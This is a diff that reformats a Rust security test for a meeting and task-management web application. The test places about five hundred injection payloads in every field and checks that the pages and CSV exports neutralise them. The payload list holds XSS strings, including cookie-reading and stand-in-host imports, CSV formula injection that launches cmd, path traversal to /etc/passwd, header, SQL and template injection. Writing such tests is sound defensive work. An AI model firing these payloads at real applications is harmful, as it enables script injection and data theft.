@@ -13,7 +13,8 @@ use std::io::Read as _;
 /// Five hundred payloads: what breaks out of text, attributes, addresses, scripts, styles, comments and cells.
 /// Each holds its number between marks, so that it can be found again: `Zq17q`.
 pub fn payloads() -> Vec<String> {
-    let handlers = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "onanimationstart"];
+    let handlers =
+        ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "onanimationstart"];
     let codes = ["alert(1)", "alert`1`", "confirm(document.cookie)", "import('//e.example')", "location='//e.example'"];
     let mut shapes: Vec<String> = Vec::new();
     for code in codes {
@@ -44,11 +45,31 @@ pub fn payloads() -> Vec<String> {
         shapes.push(format!("＜script＞{code}＜/script＞"));
     }
     for plain in [
-        "<style>*{background:url(//e.example)}</style>", "\" style=\"position:fixed", "<link rel=stylesheet href=//e.example>",
-        "<base href=//e.example>", "<meta http-equiv=refresh content=0;url=//e.example>", "<iframe srcdoc=x>", "<object data=x>",
-        "<embed src=x>", "<form action=//e.example><button>", "<a id=csrf name=csrf>", "<img name=querySelector>",
-        "=HYPERLINK(\"http://e.example\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "＝1+1", "=WEBSERVICE(\"//e\")",
-        "../../etc/passwd", "a\r\nSet-Cookie: x=1", "' OR '1'='1", "\u{202e}gpj.exe", "%00", "${7*7}", "#{7*7}",
+        "<style>*{background:url(//e.example)}</style>",
+        "\" style=\"position:fixed",
+        "<link rel=stylesheet href=//e.example>",
+        "<base href=//e.example>",
+        "<meta http-equiv=refresh content=0;url=//e.example>",
+        "<iframe srcdoc=x>",
+        "<object data=x>",
+        "<embed src=x>",
+        "<form action=//e.example><button>",
+        "<a id=csrf name=csrf>",
+        "<img name=querySelector>",
+        "=HYPERLINK(\"http://e.example\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1+1",
+        "＝1+1",
+        "=WEBSERVICE(\"//e\")",
+        "../../etc/passwd",
+        "a\r\nSet-Cookie: x=1",
+        "' OR '1'='1",
+        "\u{202e}gpj.exe",
+        "%00",
+        "${7*7}",
+        "#{7*7}",
     ] {
         shapes.push(plain.to_owned());
     }
@@ -80,49 +101,63 @@ async fn store(d: &District, copy: &Copy, hand: &mut Hand) {
         let n = n as u128;
         let kind = ["town", "street", "town"][n as usize];
         let parent = copy.app.journal.snapshot().unit_now(t.unit).unwrap().parent;
-        copy.act(&format!("u{n}"), Act::PutUnit {
-            unit: t.unit,
-            code: t.code.to_owned(),
-            name: hand.one(),
-            short: hand.one(),
-            kind: kind.to_owned(),
-            parent,
-            order: 3 + n as u32,
-            aliases: vec![hand.one()],
-            duties: vec![hand.one(), hand.one()],
-            from: None,
-            to: None,
-        })
+        copy.act(
+            &format!("u{n}"),
+            Act::PutUnit {
+                unit: t.unit,
+                code: t.code.to_owned(),
+                name: hand.one(),
+                short: hand.one(),
+                kind: kind.to_owned(),
+                parent,
+                order: 3 + n as u32,
+                aliases: vec![hand.one()],
+                duties: vec![hand.one(), hand.one()],
+                from: None,
+                to: None,
+            },
+        )
         .await;
-        copy.act(&format!("i{n}"), Act::ChangeItem {
-            item: t.item,
-            name: Some(hand.one()),
-            lead: None,
-            co: None,
-            fields: BTreeMap::from([("note".to_owned(), FieldInput::Typed(hand.many(30)))]),
-            because: hand.many(5),
-        })
+        copy.act(
+            &format!("i{n}"),
+            Act::ChangeItem {
+                item: t.item,
+                name: Some(hand.one()),
+                lead: None,
+                co: None,
+                fields: BTreeMap::from([("note".to_owned(), FieldInput::Typed(hand.many(30)))]),
+                because: hand.many(5),
+            },
+        )
         .await;
         let file = |name: String| async move {
-            copy.app.journal.store().put_file(None, &name, "text/html", b"<script>alert(1)</script>".to_vec()).await.unwrap()
+            copy.app
+                .journal
+                .store()
+                .put_file(None, &name, "text/html", b"<script>alert(1)</script>".to_vec())
+                .await
+                .unwrap()
         };
         let evidence = vec![file(hand.one()).await, file(hand.one()).await];
         let feed = TaskDoing::Feed { last: false, text: hand.many(30), evidence: evidence.clone() };
         copy.act(&format!("t{n}"), Act::ActOnTask { task: t.task, unit: t.unit, what: feed }).await;
         let urge = TaskDoing::Urge { text: hand.many(10) };
         copy.act(&format!("g{n}"), Act::ActOnTask { task: t.task, unit: t.unit, what: urge }).await;
-        copy.act(&format!("a{n}"), Act::AssignTask {
-            task: TaskId(0x900 + n),
-            code: hand.one().chars().filter(|c| !c.is_control()).take(30).collect(),
-            title: hand.one(),
-            source: TaskSource::Document(hand.one()),
-            said: hand.many(20),
-            deadline: Deadline { on: Some(day("2023-05-01")), words: hand.one() },
-            strands: vec![StrandLine { unit: t.unit, duty: Duty::Lead }],
-            aim: hand.one(),
-            area: None,
-            items: vec![t.item],
-        })
+        copy.act(
+            &format!("a{n}"),
+            Act::AssignTask {
+                task: TaskId(0x900 + n),
+                code: hand.one().chars().filter(|c| !c.is_control()).take(30).collect(),
+                title: hand.one(),
+                source: TaskSource::Document(hand.one()),
+                said: hand.many(20),
+                deadline: Deadline { on: Some(day("2023-05-01")), words: hand.one() },
+                strands: vec![StrandLine { unit: t.unit, duty: Duty::Lead }],
+                aim: hand.one(),
+                area: None,
+                items: vec![t.item],
+            },
+        )
         .await;
         copy.act(&format!("s{n}"), Act::MoveSubmission {
             submission: t.submission,
@@ -133,28 +168,34 @@ async fn store(d: &District, copy: &Copy, hand: &mut Hand) {
         })
         .await;
         let cut = copy.head();
-        copy.act(&format!("p{n}"), Act::IssuePaper {
-            paper: PaperId(0xa00 + n),
-            kind: "notice".to_owned(),
-            title: hand.one(),
-            number: Some(hand.one().chars().filter(|c| !c.is_control()).take(30).collect()),
-            meeting: None,
-            period: baton_methods::Period::parse("2023Q1").unwrap(),
-            cut,
-            audience: Scope::All,
-            files: evidence.clone(),
-            data: evidence[0].clone(),
-            facts: baton_kernel::Digest::default(),
-            witness: baton_kernel::Digest::default(),
-        })
+        copy.act(
+            &format!("p{n}"),
+            Act::IssuePaper {
+                paper: PaperId(0xa00 + n),
+                kind: "notice".to_owned(),
+                title: hand.one(),
+                number: Some(hand.one().chars().filter(|c| !c.is_control()).take(30).collect()),
+                meeting: None,
+                period: baton_methods::Period::parse("2023Q1").unwrap(),
+                cut,
+                audience: Scope::All,
+                files: evidence.clone(),
+                data: evidence[0].clone(),
+                facts: baton_kernel::Digest::default(),
+                witness: baton_kernel::Digest::default(),
+            },
+        )
         .await;
-        copy.act(&format!("o{n}"), Act::RecordOutcome {
-            meeting: MEETING,
-            outcome: OutcomeId(0xb00 + n),
-            line: 0,
-            kind: OutcomeKind::Decision,
-            text: hand.many(20),
-        })
+        copy.act(
+            &format!("o{n}"),
+            Act::RecordOutcome {
+                meeting: MEETING,
+                outcome: OutcomeId(0xb00 + n),
+                line: 0,
+                kind: OutcomeKind::Decision,
+                text: hand.many(20),
+            },
+        )
         .await;
     }
     for (n, p) in principals().iter().enumerate().filter(|(_, p)| !matches!(p.key, "str" | "for")) {
@@ -168,38 +209,47 @@ async fn store(d: &District, copy: &Copy, hand: &mut Hand) {
         let _ = p;
     }
     let plan = copy.app.journal.snapshot().meeting(MEETING).unwrap().plan.last().unwrap().clone();
-    copy.act("m", Act::PlanMeeting {
-        meeting: MEETING,
-        code: plan.code.clone(),
-        title: hand.one(),
-        period: plan.period,
-        on: plan.on,
-        place: hand.one(),
-        chair: None,
-        agenda: vec![plan.agenda[0].clone(), AgendaLine { title: hand.one(), ..plan.agenda[0].clone() }],
-        venues: plan.venues.iter().map(|v| VenueLine { name: hand.one(), ..v.clone() }).collect(),
-    })
+    copy.act(
+        "m",
+        Act::PlanMeeting {
+            meeting: MEETING,
+            code: plan.code.clone(),
+            title: hand.one(),
+            period: plan.period,
+            on: plan.on,
+            place: hand.one(),
+            chair: None,
+            agenda: vec![plan.agenda[0].clone(), AgendaLine { title: hand.one(), ..plan.agenda[0].clone() }],
+            venues: plan.venues.iter().map(|v| VenueLine { name: hand.one(), ..v.clone() }).collect(),
+        },
+    )
     .await;
     let words = hand.many(60);
-    copy.act("sp", Act::RecordSpeech {
-        meeting: MEETING,
-        speech: SpeechId(0xc00),
-        title: hand.one(),
-        raw: words.clone(),
-        clean: words,
-    })
+    copy.act(
+        "sp",
+        Act::RecordSpeech {
+            meeting: MEETING,
+            speech: SpeechId(0xc00),
+            title: hand.one(),
+            raw: words.clone(),
+            clean: words,
+        },
+    )
     .await;
-    copy.act("rd", Act::OpenRound {
-        round: RoundId(0xd00),
-        title: hand.one(),
-        period: baton_methods::Period::parse("2023M02").unwrap(),
-        kinds: vec!["matrix-work".to_owned()],
-        units: d.things.values().map(|t| t.unit).collect(),
-        opens: day("2023-04-01"),
-        due: day("2023-04-05"),
-        closes: day("2023-04-10"),
-        basis: Some(hand.one()),
-    })
+    copy.act(
+        "rd",
+        Act::OpenRound {
+            round: RoundId(0xd00),
+            title: hand.one(),
+            period: baton_methods::Period::parse("2023M02").unwrap(),
+            kinds: vec!["matrix-work".to_owned()],
+            units: d.things.values().map(|t| t.unit).collect(),
+            opens: day("2023-04-01"),
+            due: day("2023-04-05"),
+            closes: day("2023-04-10"),
+            basis: Some(hand.one()),
+        },
+    )
     .await;
     while hand.next < hand.list.len() {
         let t = &d.things["own"];
@@ -231,7 +281,8 @@ fn elements(html: &str) -> (BTreeSet<String>, Vec<String>) {
             if *c == '>' {
                 break;
             }
-            let attribute: String = chars[n..].iter().take_while(|c| !c.is_whitespace() && !matches!(c, '=' | '>')).collect();
+            let attribute: String =
+                chars[n..].iter().take_while(|c| !c.is_whitespace() && !matches!(c, '=' | '>')).collect();
             n += attribute.chars().count().max(1);
             let mut value = String::new();
             if chars.get(n) == Some(&'=') {
@@ -286,7 +337,8 @@ async fn five_hundred_payloads_in_every_field_stay_words_on_every_page_and_in_ev
     for copy in [&clean, &bad] {
         let dirty = std::ptr::eq(copy, &bad);
         for who in ["off", "rep", "adm", "sec", "aud"] {
-            let mut paths: Vec<String> = vec!["/search?q=%3Cscript%3Ealert(1)%3C/script%3E%22%20onload=%22x".to_owned()];
+            let mut paths: Vec<String> =
+                vec!["/search?q=%3Cscript%3Ealert(1)%3C/script%3E%22%20onload=%22x".to_owned()];
             for route in table().into_iter().filter(|r| r.method == Method::GET) {
                 paths.extend(asks(&d, &route, who, 0).into_iter().map(|a| a.path));
             }
@@ -308,7 +360,10 @@ async fn five_hundred_payloads_in_every_field_stay_words_on_every_page_and_in_ev
                 } else if raw.media().starts_with("text/csv") {
                     let cells = text.lines().flat_map(|l| l.split(',')).map(|c| c.trim_matches('"'));
                     for cell in cells.filter(|c| c.contains("Zq")) {
-                        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠']), "{path}: {cell}");
+                        assert!(
+                            !cell.starts_with(['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠']),
+                            "{path}: {cell}"
+                        );
                     }
                 }
                 if !raw.media().starts_with("text/html") {
@@ -329,7 +384,10 @@ async fn five_hundred_payloads_in_every_field_stay_words_on_every_page_and_in_ev
                     for name in &found {
                         let attribute = name.split(' ').nth(1).unwrap_or("");
                         assert!(!attribute.starts_with("on") && attribute != "style", "{path}: {name}");
-                        assert!(!matches!(name.as_str(), "style" | "iframe" | "object" | "embed" | "base"), "{path}: {name}");
+                        assert!(
+                            !matches!(name.as_str(), "style" | "iframe" | "object" | "embed" | "base"),
+                            "{path}: {name}"
+                        );
                     }
                     known.extend(found);
                 }
